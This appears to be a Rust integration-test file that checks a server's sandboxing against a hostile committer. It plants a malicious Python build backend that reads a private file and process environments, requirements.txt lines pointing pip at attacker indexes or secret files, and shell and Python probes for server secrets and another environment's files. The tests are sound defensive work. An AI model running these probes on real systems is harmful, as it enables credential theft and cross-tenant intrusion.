//! A committer of environment A (a commit's `main.cf`, Python plugins, `requirements.txt`,
//! handler code, `exec::Run` on `local:` agents) against environment B and the server.
//!
//! Every test starts a real `steward server` as an operator would (its secrets in its
//! environment, the default sandbox: a uid of each environment's own when it runs as root)
//! and attacks it through what a committer controls.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::json;

use crate::attacker::{is_root, skipped};
use crate::gitops_support::{Repo, compiled, follow, git_ok};
use crate::support::{Operated, eventually, exec_run, export_of, new_database, wait_deployed};

const ADMIN: &str = "stw_admin_secret_of_the_committer_attacks_0123456789";

/// Something unique to this run (file names, tags).
fn unique(what: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("{what}-{}-{nanos}", std::process::id())
}

/// A file only its owner (the test's user: root in CI) can read, holding `content`.
fn private_file(dir: &Path, name: &str, content: &str) -> PathBuf {
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
    p
}

/// Whether anyone connected to `listener` (non-blocking) since it was bound.
fn anyone_connected(listener: &std::net::TcpListener) -> bool {
    match listener.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(e) => panic!("accept: {e}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_requirements_file_can_not_make_pip_run_or_read_anything() {
    let srv = Operated::start(ADMIN, Some(new_database()), &[]).await;
    let c = srv.client.clone();
    // what pip must never reach: a private file, and a "package index" on this machine
    let vault = tempfile::tempdir().unwrap();
    let shadow_secret = unique("SHADOW-SECRET");
    let shadow = private_file(vault.path(), "shadow", &shadow_secret);
    let index = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    index.set_nonblocking(true).unwrap();
    let port = index.local_addr().unwrap().port();
    // the build backend of `./evil` leaves this if it is ever imported (in a world-writable
    // directory outside /tmp: sandboxed processes get a /tmp of their own)
    let drop_box = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::set_permissions(drop_box.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
    let marker = drop_box.path().join(unique("steward-evil-backend-ran"));

    let repo = Repo::new();
    let evil = repo.work.join("evil");
    std::fs::create_dir_all(&evil).unwrap();
    std::fs::write(
        evil.join("pyproject.toml"),
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n\
         [project]\nname = \"evil\"\nversion = \"1.0\"\n",
    )
    .unwrap();
    std::fs::write(
        evil.join("backend.py"),
        format!(
            r#"import os
def _leak():
    found = []
    for path in ({shadow:?}, "/proc/1/environ"):
        try:
            found.append(open(path).read())
        except OSError as e:
            found.append(repr(e))
    found.append(repr(dict(os.environ)))
    with open({marker:?}, "w") as f:
        f.write("\n".join(found))
_leak()
def get_requires_for_build_wheel(config_settings=None):
    return []
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError("evil")
"#,
            shadow = shadow.display().to_string(),
            marker = marker.display().to_string(),
        ),
    )
    .unwrap();
    let env = follow(&c, "reqs", &repo, json!({})).await;
    let viewer = srv.scoped("viewer", &env).await;
    let idx = format!("http://127.0.0.1:{port}/");
    let shadow_path = shadow.display().to_string();
    // (requirements.txt, the line that must be named)
    let attacks: Vec<(String, usize)> = vec![
        // a local directory: pip would build it, running its PEP 517 backend
        ("./evil\n".into(), 1),
        ("evil @ file:./evil\n".into(), 1),
        ("-e ./evil\n".into(), 1),
        // a requirements file pip would read (and quote, line by line, in its errors)
        (format!("# harmless\nsix\n-r {shadow_path}\n"), 3),
        (format!("-c {shadow_path}\n"), 1),
        // an index the commit chooses: an attacker's server, or one on the server's network
        (format!("--index-url {idx}\ninmanta-module-demo\n"), 1),
        (format!("inmanta-module-demo --index-url {idx}\n"), 1),
        (
            format!("inmanta-module-demo \\\n  --extra-index-url {idx}\n"),
            1,
        ),
        (format!("six\nevil @ {idx}evil-1.0-py3-none-any.whl\n"), 2),
        (format!("--find-links {idx}\ninmanta-module-demo\n"), 1),
    ];
    for (requirements, line) in &attacks {
        std::fs::write(repo.work.join("requirements.txt"), requirements).unwrap();
        let commit = repo.commit("std::print(\"compiled\")\n", "requirements");
        repo.push_ok();
        c.trigger_compile(&env, Some(&commit)).await.unwrap();
        let report = compiled(&viewer, &env, &commit, 120).await;
        let text = report.to_string();
        assert_eq!(
            report["status"], "failed",
            "{requirements:?} was accepted: {report:#}"
        );
        let error = report["error"].as_str().unwrap_or_default();
        assert!(
            error.contains(&format!("requirements.txt:{line}:")),
            "{requirements:?}: the refusal does not name line {line}: {error}"
        );
        assert!(
            !text.contains(&shadow_secret),
            "{requirements:?}: the private file reached the compile report: {text}"
        );
        assert!(
            !marker.exists(),
            "{requirements:?}: the commit's build backend ran: {}",
            std::fs::read_to_string(&marker).unwrap_or_default()
        );
        assert!(
            !anyone_connected(&index),
            "{requirements:?}: pip reached the index the commit chose"
        );
    }

    // requirements.txt a symlink to the private file: not written by the checkout, or refused
    let _ = std::fs::remove_file(repo.work.join("requirements.txt"));
    std::os::unix::fs::symlink(&shadow, repo.work.join("requirements.txt")).unwrap();
    let commit = repo.commit("std::print(\"compiled\")\n", "symlinked requirements");
    repo.push_ok();
    c.trigger_compile(&env, Some(&commit)).await.unwrap();
    let report = compiled(&viewer, &env, &commit, 120).await;
    assert!(
        !report.to_string().contains(&shadow_secret),
        "a symlinked requirements.txt leaked the private file: {report:#}"
    );

    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(!marker.exists(), "the commit's build backend ran");
    assert!(!anyone_connected(&index), "pip reached the commit's index");
    let log = srv.log_text();
    assert!(
        !log.contains(&shadow_secret),
        "the private file reached the server's log: {log}"
    );
}

/// Every line of `out` saying something was read or listed (the probes below print
/// `READ …`/`LISTED …` on success, `refused …` otherwise).
fn reached(out: &str) -> Vec<&str> {
    out.lines()
        .filter(|l| l.contains("READ ") || l.contains("LISTED "))
        .collect()
}

/// The first regular file under `dir` (walked as root).
fn some_file(dir: &Path) -> Option<PathBuf> {
    let mut entries: Vec<_> = std::fs::read_dir(dir).ok()?.flatten().collect();
    entries.sort_by_key(|e| e.file_name());
    for e in &entries {
        let t = e.file_type().ok()?;
        if t.is_file() {
            return Some(e.path());
        }
    }
    entries
        .iter()
        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
        .find_map(|e| some_file(&e.path()))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_handler_on_a_local_agent_reads_nothing_of_the_server() {
    let test = "a_handler_on_a_local_agent_reads_nothing_of_the_server";
    if !is_root() {
        return skipped(
            test,
            "handlers run as a uid of their environment's own only when the server runs as root",
        );
    }
    let db = new_database();
    let srv = Operated::start(ADMIN, Some(db.clone()), &[]).await;
    let c = srv.client.clone();
    let data = srv.data.path().to_path_buf();
    // something of the server's in its data dir, and the password of its PostgreSQL
    let data_secret = unique("DATA-SECRET");
    let data_file = data.join("operator-secret");
    std::fs::write(&data_file, &data_secret).unwrap();
    std::fs::set_permissions(&data_file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let pg_secret_file = crate::support::cluster().secret_file();
    let pg_secret = std::fs::read_to_string(&pg_secret_file)
        .unwrap()
        .trim()
        .to_string();
    assert!(!pg_secret.is_empty());

    // environment B deploys first: its executors' code is on disk
    let env_b = c
        .create_environment("victim", "b", None)
        .await
        .unwrap()
        .id
        .to_string();
    let vb = c
        .upload(
            &env_b,
            &export_of(vec![exec_run("localhost", "true", json!({}), &[])]),
            json!({}),
        )
        .await
        .unwrap()["number"]
        .as_i64()
        .unwrap() as i32;
    wait_deployed(&c, &env_b, vb, 60).await;
    let b_code = data.join("code").join(format!("env-{env_b}"));
    assert!(b_code.is_dir(), "no code dir of B at {}", b_code.display());
    let b_file = some_file(&b_code).unwrap_or_else(|| b_code.join("_home"));

    // a compiler token of environment A uploads a command that looks around
    let env_a = c
        .create_environment("attacker", "a", None)
        .await
        .unwrap()
        .id
        .to_string();
    let compiler = srv.scoped("compiler", &env_a).await;
    let pid = srv.pid();
    let files = [
        format!("/proc/{pid}/environ"),
        format!("/proc/{pid}/cmdline"),
        format!("/proc/{pid}/mem"),
        pg_secret_file.display().to_string(),
        data_file.display().to_string(),
        b_file.display().to_string(),
        srv.log.display().to_string(),
    ];
    let dirs = [
        data.display().to_string(),
        data.join("code").display().to_string(),
        b_code.display().to_string(),
        data.join("mirrors").display().to_string(),
        pg_secret_file.parent().unwrap().display().to_string(),
    ];
    // `"RE""AD"`: the output says READ, the command (in the same log) does not
    let script = format!(
        "echo ui\"\"d=$(id -u); \
         for f in {files}; do if head -c 4096 $f >/dev/null 2>&1; then echo \"RE\"\"AD $f: $(head -c 4096 $f | tr \"\\0\" \" \")\"; else echo \"refused $f\"; fi; done; \
         for d in {dirs}; do if ls -a $d >/dev/null 2>&1; then echo \"LIS\"\"TED $d: $(ls -a $d | tr \"\\n\" \" \")\"; else echo \"refused $d\"; fi; done; \
         echo pro\"\"cs=$(ls /proc | grep -c \"^[0-9]\"); \
         for p in /proc/[0-9]*; do echo \"ps $p: $(tr \"\\0\" \" \" < $p/cmdline | head -c 200)\"; done",
        files = files.join(" "),
        dirs = dirs.join(" "),
    );
    assert!(!script.contains('\''));
    let run = exec_run("localhost", &format!("sh -c '{script}'"), json!({}), &[]);
    let rid = run.id.0.clone();
    let v = compiler
        .upload(&env_a, &export_of(vec![run]), json!({}))
        .await
        .unwrap()["number"]
        .as_i64()
        .unwrap() as i32;
    wait_deployed(&compiler, &env_a, v, 60).await;
    let acts = compiler.actions(&env_a, Some(&rid), 10).await.unwrap();
    let out = serde_json::to_string(&acts).unwrap().replace("\\n", "\n");
    eprintln!("what the handler saw:\n{out}");

    // it ran, as someone else than the server
    let uid: u32 = out
        .split("uid=")
        .nth(1)
        .and_then(|s| {
            s.split(|c: char| !c.is_ascii_digit())
                .next()
                .and_then(|n| n.parse().ok())
        })
        .unwrap_or_else(|| panic!("the command did not run: {out}"));
    assert_ne!(uid, 0, "the handler ran as root: {out}");
    let hits = reached(&out);
    assert!(hits.is_empty(), "the handler reached: {hits:#?}");
    for f in files.iter().chain(dirs.iter()) {
        assert!(
            out.contains(&format!("refused {f}")),
            "{f} not tried: {out}"
        );
    }
    for (what, secret) in [
        ("the admin token", ADMIN),
        ("the database URL", db.as_str()),
        ("the PostgreSQL password", pg_secret.as_str()),
        ("the data dir's secret", data_secret.as_str()),
        ("the server's secret variable", "STEWARD_ADMIN_TOKEN"),
        ("the server's secret variable", "STEWARD_DATABASE_URL"),
        ("another environment's id", env_b.as_str()),
    ] {
        // B's id is in the paths tried: only a line that read it counts
        let leaked = if secret == env_b {
            !hits.is_empty()
        } else {
            out.contains(secret)
        };
        assert!(!leaked, "{what} reached the handler: {out}");
    }
    let procs: usize = out
        .split("procs=")
        .nth(1)
        .and_then(|s| s.split(|c: char| !c.is_ascii_digit()).next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no process count: {out}"));
    assert!(
        procs <= 10,
        "the handler sees {procs} processes (no PID namespace?): {out}"
    );
    // nor the server's command line (its flags: the data dir, an index URL with its
    // credentials…), not even through a process of the sandbox that is a fork of the server
    let server_seen: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("ps ") && (l.contains(" server ") || l.contains("--data-dir")))
        .collect();
    assert!(
        server_seen.is_empty(),
        "the server's command line is visible to the handler: {server_seen:#?}"
    );
}

/// A module `name` under `libs/` of `repo` whose plugins are `plugin` (Python).
pub(crate) fn plugin_module(repo: &Repo, name: &str, plugin: &str) {
    let m = repo.work.join("libs").join(name);
    std::fs::create_dir_all(m.join("model")).unwrap();
    std::fs::create_dir_all(m.join("plugins")).unwrap();
    std::fs::write(
        m.join("module.yml"),
        format!("name: {name}\nversion: 1.0.0\n"),
    )
    .unwrap();
    std::fs::write(m.join("model/_init.cf"), "").unwrap();
    std::fs::write(m.join("plugins/__init__.py"), plugin).unwrap();
}

/// Pids of the host's processes of `uid`, or whose command line holds `tag`.
fn host_processes(uid: Option<u32>, tag: &str) -> Vec<String> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = e.file_name().to_string_lossy().to_string();
        if !name.chars().all(|c| c.is_ascii_digit()) {
            continue;
        }
        let status = std::fs::read_to_string(e.path().join("status")).unwrap_or_default();
        if status.contains("State:\tZ") {
            continue;
        }
        let owner = status
            .lines()
            .find(|l| l.starts_with("Uid:"))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|u| u.parse::<u32>().ok());
        let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if (uid.is_some() && owner == uid) || cmdline.contains(tag) {
            found.push(format!("{name} (uid {owner:?}): {cmdline}"));
        }
    }
    found
}

/// The workdir of the compile running in `data` whose plugin left `started` in it, and what
/// it wrote there.
fn running_compile(data: &Path) -> Option<(PathBuf, String)> {
    for e in std::fs::read_dir(data.join("compiles")).ok()?.flatten() {
        if let Ok(text) = std::fs::read_to_string(e.path().join("started")) {
            return Some((e.path(), text));
        }
    }
    None
}

#[tokio::test(flavor = "multi_thread")]
async fn one_environments_compile_can_not_touch_anothers() {
    let test = "one_environments_compile_can_not_touch_anothers";
    if !is_root() {
        return skipped(
            test,
            "compiles run as a uid of their environment's own only when the server runs as root",
        );
    }
    let srv = Operated::start(ADMIN, Some(new_database()), &[]).await;
    let c = srv.client.clone();
    // the tag of the `sleep` A leaves behind, to find it on the host
    let tag = format!("300.{}", std::process::id());

    // B: a compile that stays in its plugin until the test releases it (at most 120 s)
    let repo_b = Repo::new();
    plugin_module(
        &repo_b,
        "slow",
        r#"import os, time
from inmanta.plugins import plugin


@plugin
def slow() -> "string":
    workdir = os.path.dirname(os.getcwd())
    with open(os.path.join(workdir, "started"), "w") as f:
        f.write(str(os.getuid()))
    for _ in range(1200):
        if os.path.exists(os.path.join(workdir, "release")):
            break
        time.sleep(0.1)
    return f"b-done uid={os.getuid()}"
"#,
    );
    let b_model = repo_b.model(
        &[("b", "from-b")],
        "import slow\nstd::print(slow::slow())\n",
    );
    let b_commit = repo_b.commit(&b_model, "b");
    repo_b.push_ok();
    let env_b = follow(&c, "b", &repo_b, json!({})).await;
    let (b_workdir, b_uid) = eventually(90, "B's compile to reach its plugin", || async {
        let list = c.compiles(&env_b, 10).await.ok()?;
        if let Some(r) = list.as_array()?.iter().find(|r| r["status"] == "failed") {
            let report = c.compile_report(&env_b, r["id"].as_str()?).await.ok()?;
            panic!("B's compile failed: {report:#}");
        }
        running_compile(srv.data.path())
    })
    .await;
    let b_uid: u32 = b_uid.trim().parse().unwrap();
    let release = b_workdir.join("release");

    // A knows where B's workdir is (an attacker could guess or find it) and goes for it,
    // for B's processes and the server, and leaves a child behind
    let repo_a = Repo::new();
    plugin_module(
        &repo_a,
        "probe",
        &format!(
            r#"import os, subprocess
from inmanta.plugins import plugin

SERVER = {server}
B = {b_workdir:?}


def attempt(what, f):
    try:
        return f"{{what}}: READ {{f()!r}}"[:300]
    except OSError as e:
        return f"{{what}}: refused {{type(e).__name__}}"


def append(path):
    with open(path, "a") as f:
        f.write('\nstd::print("A-WAS-HERE")\n')
    return "appended"


@plugin
def probe() -> "string":
    lines = [f"uid={{os.getuid()}}"]
    workdirs = os.path.dirname(os.path.dirname(os.getcwd()))
    lines.append(attempt(f"list {{workdirs}}", lambda: os.listdir(workdirs)))
    lines.append(attempt(f"list {{B}}", lambda: os.listdir(B)))
    lines.append(attempt(f"list {{B}}/project", lambda: os.listdir(B + "/project")))
    main = B + "/project/main.cf"
    lines.append(attempt(f"read {{main}}", lambda: open(main).read()))
    lines.append(attempt(f"append {{main}}", lambda: append(main)))
    lines.append(attempt(f"write {{B}}/release", lambda: open(B + "/release", "w").write("x")))
    for name in ("environ", "cmdline"):
        lines.append(attempt(f"server {{name}}", lambda: open(f"/proc/{{SERVER}}/{{name}}").read()))
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    lines.append(f"procs={{len(pids)}}")
    for p in pids:
        try:
            lines.append(f"ps {{p}}: " + open(f"/proc/{{p}}/cmdline").read().replace("\0", " "))
            env = open(f"/proc/{{p}}/environ").read()
            lines.append(f"env {{p}}: {{'STEWARD_ADMIN_TOKEN' in env}}")
        except OSError as e:
            lines.append(f"ps {{p}}: refused {{type(e).__name__}}")
    child = subprocess.Popen(
        ["setsid", "sleep", "{tag}"],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    with open("/tmp/a-child-pid", "w") as f:
        f.write(str(child.pid))
    lines.append(f"left {{child.pid}} alive={{child.poll() is None}}")
    return "\n".join(lines)
"#,
            server = srv.pid(),
            b_workdir = b_workdir.display().to_string(),
        ),
    );
    let a_commit = repo_a.commit("import probe\nstd::print(probe::probe())\n", "a");
    repo_a.push_ok();
    let env_a = follow(&c, "a", &repo_a, json!({})).await;
    let viewer_a = srv.scoped("viewer", &env_a).await;
    let ra = compiled(&viewer_a, &env_a, &a_commit, 120).await;
    let b_was_running = b_workdir.exists() && !release.exists();
    std::fs::write(&release, "go").unwrap();
    eprintln!(
        "A's compile:\n{}",
        ra["stdout"].as_str().unwrap_or_default()
    );
    assert_eq!(ra["status"], "success", "{ra:#}");
    assert!(
        b_was_running,
        "B's compile ended before A's: nothing was attacked"
    );
    let out = ra["stdout"].as_str().unwrap();
    let a_uid: u32 = out
        .split("uid=")
        .nth(1)
        .and_then(|s| s.split(|c: char| !c.is_ascii_digit()).next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("A's plugin did not run: {out}"));
    assert!(
        a_uid != 0 && a_uid != b_uid,
        "A compiled as {a_uid}, B as {b_uid}"
    );
    // every reach for B's workdir and the server refused
    let hits = reached(out);
    assert!(hits.is_empty(), "A's compile reached: {hits:#?}");
    for what in [
        "list",
        "read",
        "append",
        "write",
        "server environ",
        "server cmdline",
    ] {
        assert!(
            out.contains(&format!("{what} ")) || out.contains(&format!("{what}:")),
            "{what} not tried: {out}"
        );
    }
    // what A's compile started is gone with it, `setsid` or not
    assert!(out.contains("alive=True"), "{out}");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let left = host_processes(Some(a_uid), &tag);
    assert!(
        left.is_empty(),
        "A's compile left processes running: {left:#?}"
    );

    // B compiled its own model, untouched
    let viewer_b = srv.scoped("viewer", &env_b).await;
    let rb = compiled(&viewer_b, &env_b, &b_commit, 120).await;
    assert_eq!(rb["status"], "success", "{rb:#}");
    let text = rb.to_string();
    assert!(text.contains("b-done"), "{rb:#}");
    assert!(!text.contains("A-WAS-HERE"), "A changed B's model: {rb:#}");
    let version = eventually(30, "B's version", || async {
        let list = viewer_b.versions(&env_b).await.ok()?;
        list.first()?["number"].as_i64()
    })
    .await as i32;
    let resources = viewer_b.version_resources(&env_b, version).await.unwrap();
    let stored = serde_json::to_string(&resources).unwrap();
    assert!(
        stored.contains("from-b") && !stored.contains("A-WAS-HERE"),
        "B's version is not B's model: {stored}"
    );

    // only its own processes: not the server's, not B's (checked last: see the report)
    let procs: usize = out
        .split("procs=")
        .nth(1)
        .and_then(|s| s.split(|c: char| !c.is_ascii_digit()).next())
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert!(procs <= 10, "A's compile sees {procs} processes: {out}");
    assert!(!out.contains("env True") && !out.contains(ADMIN), "{out}");
    let server_seen: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("ps ") && (l.contains(" server ") || l.contains("--data-dir")))
        .collect();
    assert!(
        server_seen.is_empty(),
        "the server's command line is visible to A's compile: {server_seen:#?}"
    );
    let _ = git_ok(&repo_b.work, &["status"]);
}
